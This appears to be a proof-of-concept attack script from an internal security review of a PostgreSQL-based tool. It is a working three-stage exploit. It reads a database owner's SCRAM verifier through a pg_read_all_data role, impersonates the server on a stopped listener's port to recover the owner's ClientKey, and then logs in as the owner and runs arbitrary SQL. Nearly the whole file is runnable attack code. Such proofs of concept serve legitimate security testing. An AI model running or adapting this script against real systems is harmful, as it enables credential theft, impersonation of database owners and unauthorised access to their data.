"""Hostile pass 8 (roles): a read-only role that is a member of pg_read_all_data (which grant-read
accepted as a "predefined reader") reads the store owner's SCRAM verifier from pg_authid. With it,
one SCRAM exchange of a client of the owner's URL (a listener on the port of a stopped
`serve --listen`, where require_auth=scram-sha-256 was meant to leave the listener nothing usable)
gives the owner's ClientKey, with which it logs in as the owner on the real server.

Usage (not for merging):
  python scram_verifier_theft.py steal READER_URL OWNER_ROLE > verifier
  python scram_verifier_theft.py listen PORT verifier > clientkey      # while the real server is down
  python scram_verifier_theft.py login HOST PORT DATABASE OWNER_ROLE clientkey "SQL"
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import os
import socket
import struct
import sys


def _h(data: bytes) -> bytes:
    return hashlib.sha256(data).digest()


def _hmac(key: bytes, data: bytes) -> bytes:
    return hmac.new(key, data, hashlib.sha256).digest()


def _xor(a: bytes, b: bytes) -> bytes:
    return bytes(x ^ y for x, y in zip(a, b))


def _message(kind: bytes, body: bytes) -> bytes:
    return kind + struct.pack("!I", len(body) + 4) + body


def _read(sock: socket.socket, n: int) -> bytes:
    data = b""
    while len(data) < n:
        chunk = sock.recv(n - len(data))
        if not chunk:
            raise EOFError
        data += chunk
    return data


def _typed(sock: socket.socket) -> tuple[bytes, bytes]:
    kind = _read(sock, 1)
    (length,) = struct.unpack("!I", _read(sock, 4))
    return kind, _read(sock, length - 4)


def steal(url: str, owner: str) -> None:
    import psycopg

    with psycopg.connect(url) as connection:
        (verifier,) = connection.execute(
            "SELECT rolpassword FROM pg_catalog.pg_authid WHERE rolname = %s", (owner,)
        ).fetchone()
    print(verifier)


def _parse(verifier: str) -> tuple[int, bytes, bytes, bytes]:
    method, rest = verifier.split("$", 1)
    assert method == "SCRAM-SHA-256", method
    iterations_salt, keys = rest.split("$")
    iterations, salt = iterations_salt.split(":")
    stored, server = keys.split(":")
    return int(iterations), base64.b64decode(salt), base64.b64decode(stored), base64.b64decode(server)


def listen(port: int, verifier: str) -> None:
    iterations, salt, stored_key, server_key = _parse(verifier)
    with socket.create_server(("127.0.0.1", port)) as server:
        connection, _ = server.accept()
    with connection:
        (length,) = struct.unpack("!I", _read(connection, 4))
        startup = _read(connection, length - 4)
        if struct.unpack("!I", startup[:4])[0] == 80877103:  # SSLRequest: no
            connection.sendall(b"N")
            (length,) = struct.unpack("!I", _read(connection, 4))
            startup = _read(connection, length - 4)
        print("startup:", startup[4:].split(b"\0"), file=sys.stderr)
        connection.sendall(_message(b"R", struct.pack("!I", 10) + b"SCRAM-SHA-256\0\0"))
        kind, body = _typed(connection)
        mechanism, rest = body.split(b"\0", 1)
        (size,) = struct.unpack("!i", rest[:4])
        client_first = rest[4 : 4 + size].decode()
        client_first_bare = client_first.split(",", 2)[2]
        client_nonce = dict(part.split("=", 1) for part in client_first_bare.split(","))["r"]
        nonce = client_nonce + base64.b64encode(os.urandom(18)).decode()
        server_first = f"r={nonce},s={base64.b64encode(salt).decode()},i={iterations}"
        connection.sendall(_message(b"R", struct.pack("!I", 11) + server_first.encode()))
        kind, body = _typed(connection)
        client_final = body.decode()
        without_proof, proof = client_final.rsplit(",p=", 1)
        auth_message = f"{client_first_bare},{server_first},{without_proof}".encode()
        client_key = _xor(base64.b64decode(proof), _hmac(stored_key, auth_message))
        print("client key recovered:", _h(client_key) == stored_key, file=sys.stderr)
        print(base64.b64encode(client_key).decode())
        sys.stdout.flush()
        signature = _hmac(server_key, auth_message)
        connection.sendall(_message(b"R", struct.pack("!I", 12) + b"v=" + base64.b64encode(signature)))
        connection.sendall(_message(b"R", struct.pack("!I", 0)))
        for name, value in (
            ("server_version", "18.0"),
            ("client_encoding", "UTF8"),
            ("integer_datetimes", "on"),
            ("standard_conforming_strings", "on"),
            ("DateStyle", "ISO, MDY"),
        ):
            connection.sendall(_message(b"S", name.encode() + b"\0" + value.encode() + b"\0"))
        connection.sendall(_message(b"K", struct.pack("!II", 1, 2)))
        connection.sendall(_message(b"Z", b"I"))
        connection.settimeout(5)
        try:
            for _ in range(5):
                kind, body = _typed(connection)
                print("the client then sent:", kind, body[:300], file=sys.stderr)
                if kind == b"X":
                    break
        except (EOFError, TimeoutError, OSError):
            pass


def login(host: str, port: int, database: str, user: str, client_key_b64: str, query: str) -> None:
    client_key = base64.b64decode(client_key_b64)
    stored_key = _h(client_key)
    with socket.create_connection((host, port)) as sock:
        parameters = b"user\0" + user.encode() + b"\0database\0" + database.encode() + b"\0\0"
        body = struct.pack("!I", 196608) + parameters
        sock.sendall(struct.pack("!I", len(body) + 4) + body)
        kind, body = _typed(sock)
        assert kind == b"R" and struct.unpack("!I", body[:4])[0] == 10, (kind, body)
        nonce = base64.b64encode(os.urandom(18)).decode()
        client_first_bare = f"n=,r={nonce}"
        first = ("n,," + client_first_bare).encode()
        sock.sendall(_message(b"p", b"SCRAM-SHA-256\0" + struct.pack("!i", len(first)) + first))
        kind, body = _typed(sock)
        server_first = body[4:].decode()
        server_nonce = dict(part.split("=", 1) for part in server_first.split(","))["r"]
        without_proof = f"c=biws,r={server_nonce}"
        auth_message = f"{client_first_bare},{server_first},{without_proof}".encode()
        proof = _xor(client_key, _hmac(stored_key, auth_message))
        sock.sendall(_message(b"p", f"{without_proof},p={base64.b64encode(proof).decode()}".encode()))
        while True:
            kind, body = _typed(sock)
            if kind == b"E":
                raise SystemExit(f"refused: {body!r}")
            if kind == b"Z":
                break
        print("logged in as", user, "with the ClientKey alone", file=sys.stderr)
        sock.sendall(_message(b"Q", query.encode() + b"\0"))
        while True:
            kind, body = _typed(sock)
            if kind in (b"D", b"C", b"E"):
                print(kind.decode(), body, file=sys.stderr)
            if kind == b"Z":
                break


if __name__ == "__main__":
    command, *arguments = sys.argv[1:]
    if command == "steal":
        steal(arguments[0], arguments[1])
    elif command == "listen":
        listen(int(arguments[0]), open(arguments[1]).read().strip())
    elif command == "login":
        login(
            arguments[0], int(arguments[1]), arguments[2], arguments[3], open(arguments[4]).read().strip(), arguments[5]
        )
